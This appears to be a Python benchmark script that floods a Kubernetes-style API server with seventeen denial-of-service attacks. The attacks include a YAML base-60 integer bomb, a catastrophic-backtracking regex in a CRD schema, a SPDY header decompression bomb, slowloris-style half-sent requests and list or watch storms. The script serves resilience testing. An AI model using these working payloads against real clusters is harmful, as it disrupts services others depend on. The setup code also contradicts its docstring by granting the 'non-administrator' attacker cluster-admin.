"""What one user can do to an API server: each function attacks until its process is stopped.

``python -m benchmarks.cluster.attacks KUBECONFIG NAME`` runs one attack as the user ``mallory``.
The user has all rights of an editor, but is no administrator.
"""

import asyncio
import contextlib
import json
import resource
import socket
import struct
import sys
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import replace
from pathlib import Path

from benchmarks.cluster.connection import Connection, Target

ATTACKER = "mallory"
NAMESPACE = "attacked"
CONFIG_MAPS = f"/api/v1/namespaces/{NAMESPACE}/configmaps"
CRDS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
LISTED_OBJECTS, LISTED_BYTES = 1000, 10_000
"""Objects that exist before the attacks, and the size of each."""
CONNECTIONS = 4
CONNECTION_ERRORS = (OSError, EOFError, asyncio.IncompleteReadError)
_SPDY_SYN_STREAM = 1


async def _repeat(target: Target, method: str, path: str, body: bytes, media: str) -> None:
    """Send one request again and again over several connections."""

    async def worker() -> None:
        while True:
            with contextlib.suppress(*CONNECTION_ERRORS):
                connection = await Connection.open(target)
                while True:
                    await connection.request(method, path, body, media)
            await asyncio.sleep(0.1)

    await asyncio.gather(*(worker() for _ in range(CONNECTIONS)))


async def yaml_base60(target: Target) -> None:
    """An integer of 320 kB in the base-60 notation of YAML 1.1."""
    body = b"a: 1" + b":59" * 107_000 + b"\n"
    await _repeat(target, "POST", CONFIG_MAPS, body, "application/yaml")


async def managed_fields(target: Target) -> None:
    """An object with 20,000 entries of managedFields."""
    entries = [
        {
            "manager": f"m{number}",
            "operation": "Update",
            "apiVersion": "v1",
            "fieldsType": "FieldsV1",
            "fieldsV1": {"f:data": {f"f:k{number}": {}}},
        }
        for number in range(20_000)
    ]
    metadata = {"name": "owned", "managedFields": entries}
    body = json.dumps({"metadata": metadata, "data": {"k": "v"}}).encode()
    await _repeat(target, "POST", f"{CONFIG_MAPS}?fieldManager=a", body, "application/json")


async def json_numbers(target: Target) -> None:
    """An object with 99,000 numbers that take long to decode."""
    numbers = b",".join([b"1.2345678901234567e-300"] * 99_000)
    body = b'{"metadata":{"name":"numbers"},"data":{"k":[' + numbers + b"]}}"
    await _repeat(target, "POST", CONFIG_MAPS, body, "application/json")


def _large_config_map(name: str) -> bytes:
    data = {f"key-{number}": "x" * 8 for number in range(30_000)}
    return json.dumps({"metadata": {"name": name, "labels": {"size": "large"}}, "data": data},
                      separators=(",", ":")).encode()  # fmt: skip


async def large_deletions(target: Target) -> None:
    """Objects of 1.2 MB with 30,000 keys that are created, and deleted as a collection."""
    created = [
        asyncio.create_task(
            _repeat(
                target, "POST", CONFIG_MAPS, _large_config_map(f"large-{n}"), "application/json"
            )
        )
        for n in range(4)
    ]
    selected = f"{CONFIG_MAPS}?labelSelector=size%3Dlarge"
    await asyncio.gather(*created, _repeat(target, "DELETE", selected, b"", "application/json"))


async def wide_watches(target: Target) -> None:
    """400 watches with different selectors that all get an object of 1 MB again and again."""

    async def watch(number: int) -> None:
        path = f"{CONFIG_MAPS}?watch=true&labelSelector=wide,no-{number}%21%3D1"
        while True:
            with contextlib.suppress(*CONNECTION_ERRORS):
                connection = await (await Connection.open(target)).watch(path)
                while await connection.read():
                    pass
            await asyncio.sleep(1)

    watches = [asyncio.create_task(watch(number)) for number in range(400)]
    await asyncio.sleep(3)
    metadata = {"name": "wide", "labels": {"wide": "true"}}
    body = json.dumps({"metadata": metadata, "data": {"k": "x" * 1_000_000}}).encode()
    path = f"{CONFIG_MAPS}/wide"
    connection = await Connection.open(target)
    await connection.request("POST", CONFIG_MAPS, body)
    patches = (
        json.dumps({"metadata": {"annotations": {"n": str(n)}}}).encode() for n in range(1 << 30)
    )
    for patch in patches:
        await connection.request("PATCH", path, patch, "application/merge-patch+json")
        await asyncio.sleep(1)
    await asyncio.gather(*watches)


async def held_connections(target: Target) -> None:
    """2,000 connections that never start a handshake; each is opened again when it is closed."""
    loop = asyncio.get_running_loop()

    async def hold() -> None:
        while True:
            with contextlib.suppress(OSError), socket.socket() as raw:
                raw.setblocking(False)
                await loop.sock_connect(raw, (target.host, target.port))
                await loop.sock_recv(raw, 1)
            await asyncio.sleep(1)

    await asyncio.gather(*(hold() for _ in range(2000)))


def _definition(plural: str, schema: dict, **version: object) -> bytes:
    kind = plural.capitalize()
    return json.dumps(
        {
            "apiVersion": "apiextensions.k8s.io/v1",
            "kind": "CustomResourceDefinition",
            "metadata": {"name": f"{plural}.bench.example"},
            "spec": {
                "group": "bench.example",
                "scope": "Namespaced",
                "names": {"plural": plural, "singular": plural, "kind": kind},
                "versions": [
                    {
                        "name": "v1",
                        "served": True,
                        "storage": True,
                        "schema": {"openAPIV3Schema": schema},
                        **version,
                    }
                ],
            },
        }
    ).encode()


async def crd_pattern(target: Target) -> None:
    """A value that the pattern ``^(a+)+$`` of a definition is compared with."""
    schema = {
        "type": "object",
        "properties": {"value": {"type": "string", "pattern": "^(a+)+$"}},
    }
    connection = await Connection.open(target)
    await connection.request("POST", CRDS, _definition("patterns", schema))
    connection.close()
    await asyncio.sleep(1)
    body = json.dumps(
        {
            "apiVersion": "bench.example/v1",
            "kind": "Patterns",
            "metadata": {"name": "long"},
            "value": "a" * 27 + "!",
        }
    ).encode()
    path = f"/apis/bench.example/v1/namespaces/{NAMESPACE}/patterns"
    await _repeat(target, "POST", path, body, "application/json")


async def json_path(target: Target) -> None:
    """A definition with a printer column whose JSONPath has 50,000 parts."""
    column = {"name": "Deep", "type": "string", "jsonPath": ".a" * 50_000}
    schema = {"type": "object", "x-kubernetes-preserve-unknown-fields": True}
    body = _definition("paths", schema, additionalPrinterColumns=[column])
    await _repeat(target, "POST", CRDS, body, "application/json")


def _protobuf_field(number: int, content: bytes) -> bytes:
    size, length = len(content), b""
    while size > 0x7F:
        length += bytes([size & 0x7F | 0x80])
        size >>= 7
    return bytes([number << 3 | 2]) + length + bytes([size]) + content


async def protobuf_subjects(target: Target) -> None:
    """A RoleBinding in protobuf with 400,000 empty subjects."""
    role = _protobuf_field(1, b"rbac.authorization.k8s.io") + _protobuf_field(2, b"Role")
    raw = _protobuf_field(1, _protobuf_field(1, b"many")) + _protobuf_field(2, b"") * 400_000
    raw += _protobuf_field(3, role + _protobuf_field(3, b"none"))
    kind = _protobuf_field(1, b"rbac.authorization.k8s.io/v1") + _protobuf_field(2, b"RoleBinding")
    body = b"k8s\0" + _protobuf_field(1, kind) + _protobuf_field(2, raw)
    path = f"/apis/rbac.authorization.k8s.io/v1/namespaces/{NAMESPACE}/rolebindings"
    await _repeat(target, "POST", path, body, "application/vnd.kubernetes.protobuf")


async def spdy_headers(target: Target) -> None:
    """Headers of a SPDY stream that expand to 200 MB."""
    from gangline.local.apiserver.kubelet_proxy.spdy import DICTIONARY

    packer = zlib.compressobj(level=9, zdict=DICTIONARY)
    size = 200 << 20
    block = packer.compress(struct.pack(">II", 1, size))
    block += b"".join(packer.compress(bytes(1 << 20)) for _ in range(200))
    block += packer.flush(zlib.Z_SYNC_FLUSH)
    content = struct.pack(">IIBB", 1, 0, 0, 0) + block
    frame = struct.pack(">HHI", 0x8003, _SPDY_SYN_STREAM, len(content)) + content
    path = f"/api/v1/namespaces/{NAMESPACE}/pods/pod/exec?command=true&stdout=true"
    head = (
        f"POST {path} HTTP/1.1\r\n{target.headers}Connection: Upgrade\r\nUpgrade: SPDY/3.1\r\n"
        "X-Stream-Protocol-Version: v4.channel.k8s.io\r\nContent-Length: 0\r\n\r\n"
    )
    while True:
        with contextlib.suppress(*CONNECTION_ERRORS):
            reader, writer = await asyncio.open_connection(target.host, target.port, ssl=target.tls)
            writer.write(head.encode())
            await reader.readuntil(b"\r\n\r\n")
            writer.write(frame)
            await writer.drain()
            await asyncio.wait_for(reader.read(1), 2)
            writer.transport.abort()
        await asyncio.sleep(0.1)


async def _open_unread(target: Target, request: bytes, count: int) -> None:
    """Send a request over many connections, and read nothing from any of them."""
    opened = []
    for _ in range(count):
        raw = socket.socket()
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.setblocking(False)
        loop = asyncio.get_running_loop()
        await loop.sock_connect(raw, (target.host, target.port))
        reader, writer = await asyncio.open_connection(
            sock=raw, ssl=target.tls, server_hostname=target.host, limit=1 << 12
        )
        writer.transport.pause_reading()
        writer.write(request)
        opened.append((reader, writer))
    await asyncio.Event().wait()


async def unread_watches(target: Target) -> None:
    """400 watches of 10 MB of objects whose client reads nothing."""
    head = f"GET {CONFIG_MAPS}?watch=true HTTP/1.1\r\n{target.headers}\r\n"
    await _open_unread(target, head.encode(), 400)


async def unread_lists(target: Target) -> None:
    """100 lists of 10 MB of objects whose client reads nothing."""
    head = f"GET {CONFIG_MAPS} HTTP/1.1\r\n{target.headers}\r\n"
    await _open_unread(target, head.encode(), 100)


async def half_sent(target: Target) -> None:
    """300 requests whose headers do not end, and 300 whose body does not."""
    head = f"POST {CONFIG_MAPS} HTTP/1.1\r\n{target.headers}"
    body = f"{head}Content-Type: application/json\r\nContent-Length: 3000000\r\n\r\n" + "{" * 9000
    unfinished = asyncio.create_task(_open_unread(target, head.encode(), 300))
    await asyncio.gather(unfinished, _open_unread(target, body.encode(), 300))


async def _list_storm(target: Target, accept: str) -> None:
    headers = target.headers.replace("Accept: application/json\r\n", f"Accept: {accept}\r\n")
    storm = replace(target, headers=headers)
    await asyncio.gather(
        *(_repeat(storm, "GET", CONFIG_MAPS, b"", "application/json") for _ in range(8))
    )


async def list_storm(target: Target) -> None:
    """32 connections that list 10 MB of objects again and again."""
    await _list_storm(target, "application/json")


async def table_storm(target: Target) -> None:
    """The same lists as tables."""
    await _list_storm(target, "application/json;as=Table;v=v1;g=meta.k8s.io")


async def yaml_storm(target: Target) -> None:
    """The same lists as YAML."""
    await _list_storm(target, "application/yaml")


async def get_storm(target: Target) -> None:
    """64 connections that read small objects as fast as they can."""
    path = "/api/v1/namespaces/default"
    await asyncio.gather(
        *(_repeat(target, "GET", path, b"", "application/json") for _ in range(16))
    )


ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        yaml_base60, managed_fields, crd_pattern, json_path, protobuf_subjects, spdy_headers,
        unread_watches, unread_lists, half_sent, list_storm, table_storm, yaml_storm, get_storm,
        json_numbers, large_deletions, wide_watches, held_connections,
    )
}  # fmt: skip


def impersonating(target: Target, user: str) -> Target:
    """The same server, as another user."""
    return replace(target, headers=f"{target.headers}Impersonate-User: {user}\r\n")


async def prepare(admin: Target) -> None:
    """Create the objects that are attacked, and the rights of the users."""
    binding = {
        "metadata": {"name": "attackers"},
        "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin",
        },
        "subjects": [
            {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": name}
            for name in (ATTACKER, "alice")
        ],
    }  # fmt: skip
    pod = {
        "metadata": {"name": "pod"},
        "spec": {"containers": [{"name": "main", "image": "busybox:1", "command": ["sleep", "1"]}]},
    }
    roles = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings"
    connection = await Connection.open(admin)
    for path, made in (
        ("/api/v1/namespaces", {"metadata": {"name": NAMESPACE}}),
        (roles, binding),
        (f"/api/v1/namespaces/{NAMESPACE}/pods", pod),
    ):
        code, answer = await connection.request("POST", path, json.dumps(made).encode())
        assert code in (201, 409), answer
    for number in range(LISTED_OBJECTS):
        made = {"metadata": {"name": f"listed-{number}"}, "data": {"text": "x" * LISTED_BYTES}}
        code, answer = await connection.request("POST", CONFIG_MAPS, json.dumps(made).encode())
        assert code in (201, 409), answer
    connection.close()


async def main() -> None:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    admin = await Target.of(Path(sys.argv[1]))
    await ATTACKS[sys.argv[2]](impersonating(admin, ATTACKER))


if __name__ == "__main__":
    asyncio.run(main())
